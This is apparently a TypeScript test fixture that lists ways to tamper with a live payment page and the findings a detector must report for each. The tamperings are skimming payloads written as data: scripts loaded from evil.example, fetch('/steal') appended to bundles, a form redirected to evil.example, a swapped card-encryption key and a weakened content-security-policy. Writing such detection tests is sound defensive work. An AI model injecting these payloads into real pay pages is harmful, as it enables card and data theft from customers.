import type { Passing, Tamper } from './tampering-proxy.ts';

/** One way to alter a live pay page, and exactly the findings that it must cause. */
export type Tampering = { readonly name: string; readonly tamper: Tamper; readonly says: RegExp[] };

const onPage =
  (tamper: Tamper): Tamper =>
  (passing) => {
    if (passing.headers.get('content-type')?.startsWith('text/html')) tamper(passing);
  };
const onFile =
  (file: RegExp, tamper: Tamper): Tamper =>
  (passing) => {
    if (file.test(passing.path)) tamper(passing);
  };

/** Throws if there is nothing to replace, because nothing would be tampered with. */
function replace(passing: Passing, text: string, by: string): void {
  if (!passing.body.includes(text)) throw new Error(`nothing to alter: ${text}`);
  passing.body = passing.body.replace(text, () => by);
}
const replacing = (text: string, by: string) => onPage((passing) => replace(passing, text, by));
const inHead = (html: string) => replacing('</head>', `${html}</head>`);
const withHeader = (name: string, value: string) =>
  onPage(({ headers }) => void headers.set(name, value));
const withoutHeader = (name: string) => onPage(({ headers }) => void headers.delete(name));

const policy = 'content-security-policy';
const withPolicy = (change: (policy: string) => string) =>
  onPage(({ headers }) => {
    const is = headers.get(policy) ?? '';
    if (change(is) === is) throw new Error('the policy stays as it is');
    headers.set(policy, change(is));
  });

export const tamperings: readonly Tampering[] = [
  {
    name: 'a script from another host',
    tamper: inHead('<script src="https://evil.example/skim.js"></script>'),
    says: [
      /not this release’s from line \d+ on; it holds a script from a file; there stands “<script src="https:\/\/evil\.example\/skim\.js"><\/script>”; where nothing should stand$/,
    ],
  },
  {
    name: 'an inline script',
    tamper: inHead('<script>document.forms[0].onsubmit=steal</script>'),
    says: [/it holds a script; there stands “<script>document\.forms\[0\]/],
  },
  {
    name: 'an event handler',
    tamper: replacing('<div id="root">', '<div id="root" oninput="steal(event)">'),
    says: [/it holds an event handler; there stands “<div id="root" oninput=/],
  },
  {
    name: 'a script for readers of French alone',
    tamper: onPage((passing) => {
      if (!passing.languages.startsWith('fr')) return;
      replace(passing, '</head>', '<script>0</script></head>');
    }),
    says: [/for readers of French, the HTML is not this release’s .* it holds a script; there/],
  },
  {
    name: 'another key for readers of French alone',
    tamper: onPage((passing) => {
      if (!passing.languages.startsWith('fr')) return;
      replace(passing, '"publicKey":"-----BEGIN', '"publicKey":"evil-----BEGIN');
    }),
    says: [/^\/getCompanyData: for readers of French, the public key that cards are sealed with/],
  },
  {
    name: 'other bytes in the script',
    tamper: onFile(/\/pay-[^/]*\.js$/, (passing) => (passing.body += ';fetch("/steal")')),
    says: [/^\/assets\/pay-[\w-]+\.js: the script is not the built one: SHA-256 [0-9a-f]{64}/],
  },
  {
    name: 'other bytes in the words of a language',
    tamper: onFile(/\/french-[^/]*\.js$/, (passing) => (passing.body += ';fetch("/steal")')),
    says: [/^\/assets\/french-[\w-]+\.js: the script is not the built one: SHA-256 [0-9a-f]{64}/],
  },
  {
    name: 'other bytes in the program for readers of French alone',
    tamper: onFile(/\/pay-[^/]*\.js$/, (passing) => {
      if (passing.languages.startsWith('fr')) passing.body += ';fetch("/steal")';
    }),
    says: [
      /^\/assets\/pay-[\w-]+\.js: for readers of French, the script is not the built one: SHA-256/,
    ],
  },
  {
    name: 'other bytes in the style sheet',
    tamper: replacing('</style>', 'input{background:url(/steal)}</style>'),
    says: [/not this release’s from line \d+ on/],
  },
  {
    name: 'no policy',
    tamper: withoutHeader(policy),
    says: [/the header content-security-policy is missing$/],
  },
  {
    name: 'a policy that allows inline scripts',
    tamper: withPolicy((is) =>
      is.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
    ),
    says: [/the content-security-policy allows more in script-src: “'unsafe-inline'”$/],
  },
  {
    name: 'a policy that only reports',
    tamper: onPage(({ headers }) => {
      headers.set(`${policy}-report-only`, headers.get(policy) ?? '');
      headers.delete(policy);
    }),
    says: [
      /the header content-security-policy is missing$/,
      /the header “content-security-policy-report-only” is there, .* and stops nothing\)$/,
    ],
  },
  {
    name: 'a policy with one more host',
    tamper: withPolicy((is) =>
      is.replace("connect-src 'self'", "connect-src 'self' https://evil.example"),
    ),
    says: [/the content-security-policy allows more in connect-src: “https:\/\/evil\.example”$/],
  },
  {
    name: 'a policy without Trusted Types',
    tamper: withPolicy((is) =>
      is.replace("; require-trusted-types-for 'script'; trusted-types 'none'", ''),
    ),
    says: [
      /does not say require-trusted-types-for 'script' any more$/,
      /does not say trusted-types 'none' any more$/,
    ],
  },
  {
    name: 'a policy that lets others frame the page',
    tamper: withPolicy((is) => is.replace("; frame-ancestors 'none'", '')),
    says: [/does not say frame-ancestors 'none' any more$/],
  },
  {
    name: 'no nosniff',
    tamper: withoutHeader('x-content-type-options'),
    says: [/the header x-content-type-options is missing$/],
  },
  {
    name: 'another base',
    tamper: replacing('<head>', '<head><base href="https://evil.example/">'),
    says: [/it holds another base for all addresses; there stands “<base href=/],
  },
  {
    name: 'a page that leaves by itself',
    tamper: inHead('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    says: [/it holds an order to the browser \(meta http-equiv\)/],
  },
  {
    name: 'a page within the page',
    tamper: replacing('<div id="root">', '<iframe src="/x"></iframe><div id="root">'),
    says: [/it holds a page within the page; there stands “<iframe/],
  },
  {
    name: 'a form that is sent elsewhere',
    tamper: replacing('<form ', '<form action="https://evil.example/" '),
    says: [/it holds another place for a form to be sent to; there stands “<form action=/],
  },
  {
    name: 'another public key',
    tamper: onPage((passing) =>
      replace(
        passing,
        '"publicKey":"-----BEGIN PUBLIC KEY-----\\n',
        '"publicKey":"-----BEGIN PUBLIC KEY-----\\nevil',
      ),
    ),
    says: [
      /^\/getCompanyData: the public key that cards are sealed with on the page is “-----BEGIN PUBLIC KEY----- evil/,
    ],
  },
  {
    name: 'another name, wherever it stands',
    tamper: onPage((passing) => (passing.body = passing.body.replaceAll('Ti Kaye', 'Ti Kay'))),
    says: [
      /^\/getCompanyData: the name of the company on the page is “Ti Kay” instead of “Ti Kaye”$/,
    ],
  },
  {
    name: 'a preload from another host',
    tamper: inHead('<link rel="preload" as="script" href="https://evil.example/x.js">'),
    says: [/it holds something to be loaded \(link\); there stands “<link rel="preload"/],
  },
  {
    name: 'a preload before the answer',
    tamper: onPage((passing) => {
      passing.early = { link: '<https://evil.example/x.js>; rel=preload; as=script' };
    }),
    says: [/before the answer the header “link” is there, .*“<https:\/\/evil\.example\/x\.js>/],
  },
  {
    name: 'a header that connects to another host',
    tamper: withHeader('link', '<https://evil.example>; rel=preconnect'),
    says: [
      /^\/PayCompany\/\w+: the header “link” is there, .*rel=preconnect” \(it makes browsers load/,
    ],
  },
  {
    name: 'a way to somewhere else',
    tamper: onPage((passing) => {
      passing.status = 302;
      passing.headers.set('location', 'https://evil.example/PayCompany');
    }),
    says: [/it sends customers on to “https:\/\/evil\.example\/PayCompany” \(status 302\)$/],
  },
  {
    name: 'a cookie',
    tamper: withHeader('set-cookie', 'who=1'),
    says: [/the header “set-cookie” is there, .*: “who=1” \(it leaves something/],
  },
  {
    name: 'a header that leads away',
    tamper: withHeader('refresh', '0;url=https://evil.example/'),
    says: [/the header “refresh” is there, .* \(it sends customers elsewhere after some time\)$/],
  },
];
